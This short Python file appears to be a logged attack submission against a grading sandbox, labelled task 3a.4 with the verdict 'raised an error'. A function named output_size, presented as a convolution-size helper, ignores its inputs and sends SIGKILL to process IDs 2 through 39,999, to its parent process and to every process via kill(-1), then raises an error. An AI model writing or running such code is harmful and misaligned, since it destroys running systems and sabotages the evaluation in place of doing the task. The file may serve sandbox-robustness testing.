# attack: kills every process that it can name
# task: 3a.4
# verdict: raised an error
# tried: signal

import os
import signal


def output_size(size, kernel_size, stride, padding):
    for number in [*range(2, 40_000), os.getppid()]:
        try:
            os.kill(number, signal.SIGKILL)
        except ProcessLookupError:
            pass
    os.kill(-1, signal.SIGKILL)
    raise LookupError("nobody there")
